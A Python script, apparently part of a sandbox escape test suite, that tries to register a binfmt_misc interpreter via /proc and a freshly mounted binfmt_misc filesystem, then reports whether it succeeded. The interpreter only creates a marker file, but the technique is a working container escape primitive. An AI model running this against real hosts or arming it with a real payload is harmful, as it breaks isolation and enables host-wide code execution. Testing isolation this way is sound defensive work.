"""Register a binfmt_misc interpreter (run by the kernel for matching binaries, host-wide on older kernels) via /proc/sys/fs/binfmt_misc and a fresh mount."""
import ctypes
import os

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

SYS_mount, SYS_umount2 = 165, 166
RULE = ":fbx:E::fbxtest::/tmp/fbx-interp:"


def register(d, out):
    reg = os.path.join(d, "register")
    try:
        with open(reg, "w") as f:
            f.write(RULE)
    except OSError as e:
        NOTES.append("write %s: %s" % (reg, en(e.errno)))
        return
    out.append("registered a binfmt_misc handler through %s" % reg)
    try:
        with open(os.path.join(d, "fbx"), "w") as f:
            f.write("-1")
    except OSError:
        pass


def main():
    with open("/tmp/fbx-interp", "w") as f:
        f.write("#!/bin/sh\ntouch /tmp/fbx-interp-ran\n")
    os.chmod("/tmp/fbx-interp", 0o755)
    register("/proc/sys/fs/binfmt_misc", ESCAPES)
    target = "/tmp/fbx-binfmt"
    os.makedirs(target, exist_ok=True)
    r, e = sysc(SYS_mount, ctypes.c_char_p(b"binfmt_misc"), ctypes.c_char_p(target.encode()),
                ctypes.c_char_p(b"binfmt_misc"), 0, None)
    if r == 0:
        ESCAPES.append("mounted binfmt_misc at %s" % target)
        register(target, ESCAPES)
        sysc(SYS_umount2, ctypes.c_char_p(target.encode()), 2)
    else:
        NOTES.append("mount binfmt_misc: %s" % en(e))


if __name__ == "__main__":
    finish(main)
